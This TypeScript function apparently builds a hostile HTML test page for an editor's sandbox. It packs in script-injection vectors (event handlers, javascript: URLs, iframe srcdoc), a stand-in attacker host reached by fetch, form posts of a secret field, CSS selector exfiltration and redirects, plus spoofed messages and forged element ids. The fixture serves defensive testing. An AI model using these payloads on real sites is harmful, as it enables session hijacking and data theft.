/** What a page may try in an editor: to run, to lead away, to tell its own server, to pass for another element, to hide what is marked. */
export function hostilePage(evil: string): string {
  const ran = 'top.hacked=1;localStorage.clear()';
  return `<!doctype html><html data-garimpo-id="3" onload="${ran}"><head><title>Oferta</title>
<base href="${evil}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><META HTTP-EQUIV=refresh CONTENT="1; url=${evil}/refresh2">
<link rel=preconnect href="${evil}"><link rel=dns-prefetch href="${evil}"><link rel=prefetch href="${evil}/a"><link rel=preload as=image href="${evil}/b">
<link rel=modulepreload href="${evil}/c.js"><link rel=prerender href="${evil}/d"><link rel=manifest href="${evil}/e"><link rel=icon href="${evil}/f.png">
<link rel=stylesheet href="${evil}/g.css"><link rel=preload as=style href="${evil}/h.css" onload="this.rel='stylesheet'">
<script>${ran};parent.postMessage({kind:'pick',element:1,twice:false},'*');document.body.innerHTML='x';location='${evil}/i';fetch('${evil}/j')</script>
<script src="${evil}/k.js"></script><script type=module>import '${evil}/l.js'</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${evil}/m"]}]}</script>
<style>@import url(${evil}/n.css);*{transition:all 90s!important}garimpo-marks,body>:last-child~*{display:none!important}
body{background:url(${evil}/o.png)}input[value^=s]{background:url(${evil}/p)}@font-face{font-family:X;src:url(${evil}/q.woff2)}
[data-garimpo-id]{background:url(${evil}/r)}p{font-family:X;mask-image:none;cursor:url(${evil}/s.cur),auto}</style></head>
<body data-garimpo-id="999" onload="${ran}" style="position:relative;z-index:2147483647"><noscript><img src="${evil}/ns.png"></noscript>
<p id=um data-garimpo-id="4" DATA-GARIMPO-ID=7 onclick="${ran}" onpointerdown="${ran}">texto um</p>
<p><a id=programa href="javascript:${ran}">programa</a></p><p><a id=acima href="${evil}/t" target=_top>acima</a></p>
<p><a id=fora href="${evil}/u" target=_blank ping="${evil}/v">fora</a></p><p><a id=baixa href="${evil}/w" download>baixa</a></p>
<form action="${evil}/x" method=post target=_top><input id=campo value=segredo autofocus onfocus="${ran}"><button id=enviar>enviar</button>
<button id=outro formaction="${evil}/y" formtarget=_top>outro</button></form>
<img src=x onerror="${ran}"><img src="${evil}/z.png" srcset="${evil}/aa.png 2x"><video src="${evil}/bb.mp4" poster="${evil}/cc.png" autoplay></video>
<table background="${evil}/dd.png"><td>c</td></table><details open ontoggle="${ran}"><summary>s</summary></details>
<svg><script>${ran}</script><image href="${evil}/ee.png"/><use href="${evil}/ff.svg#a"/><a href="javascript:${ran}"><text y=9>svg</text></a></svg>
<iframe src="${evil}/gg"></iframe><iframe srcdoc="<script>${ran};top.location='${evil}/hh'</script>"></iframe><iframe src="javascript:${ran}"></iframe>
<object data="${evil}/ii"></object><embed src="${evil}/jj"><object type="text/html" data="data:text/html,<script>${ran}</script>"></object>
<template shadowrootmode=open><script>${ran}</script><img src="${evil}/kk.png"></template><marquee onstart="${ran}">m</marquee>
<garimpo-marks>falso</garimpo-marks><p id=fim>fim</p></body></html>`;
}
